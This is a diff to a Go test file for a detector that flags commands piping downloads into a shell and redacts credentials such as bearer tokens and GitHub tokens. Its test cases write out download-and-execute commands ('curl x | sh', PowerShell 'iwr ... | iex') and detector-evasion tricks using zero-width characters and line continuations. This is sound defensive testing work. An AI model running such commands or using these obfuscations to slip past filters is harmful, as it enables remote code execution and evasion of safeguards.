@@ -218,6 +218,7 @@ func TestChipPipesDownloadIntoShell(t *testing.T) {
 			`ssh host "curl x | sh"`:            "curl x | sh",
 			`{"command":"curl x | sh"}`:         "curl x | sh",
 			`c\url x | s""h`:                    `c\url x | s""h`,
+			"cu\\\nrl x | sh":                   "cu\\⏎rl x | sh",
 			"cu\u200brl x | sh":                 "curl x | sh",
 			"iwr https://x.example/i.ps1 | iex": "iwr https://x.example/i.ps1 | iex",
 			"iex (iwr https://x.example)":       "iex (iwr https://x.example",
@@ -315,6 +316,7 @@ func TestChipCredentials(t *testing.T) {
 			"authorization: basic ZGFuYTpodW50ZXIy":                             "Authorization: basic …",
 			`{"Authorization":"Bearer abcdef1234567890"}`:                       "Authorization: Bearer …",
 			"ghp\u200b_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ":                    "ghp_…",
+			"x\u200bghp_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ":                   "ghp_…",
 			"https://x.example/?t=ghp_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ":     "ghp_…",
 		},
 		quiet: []string{
